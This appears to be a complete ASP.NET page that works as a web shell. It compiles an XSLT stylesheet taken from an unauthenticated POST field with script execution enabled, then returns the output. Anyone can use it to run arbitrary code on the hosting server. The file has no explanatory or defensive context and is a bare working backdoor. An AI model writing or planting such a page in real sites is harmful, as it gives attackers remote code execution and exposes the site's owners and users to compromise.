<%@ Page Language="C#" %>
<%@ Import Namespace="System.Xml" %>
<%@ Import Namespace="System.Xml.Xsl" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        string xsl = Request.Form["xsl"];
        if (String.IsNullOrEmpty(xsl)) return;
        XslCompiledTransform xct = new XslCompiledTransform();
        XsltSettings settings = new XsltSettings(false, true);
        xct.Load(XmlReader.Create(new StringReader(xsl)), settings, new XmlUrlResolver());
        StringWriter sw = new StringWriter();
        xct.Transform(XmlReader.Create(new StringReader("<r/>")), null, sw);
        Response.Write(sw.ToString());
    }
</script>
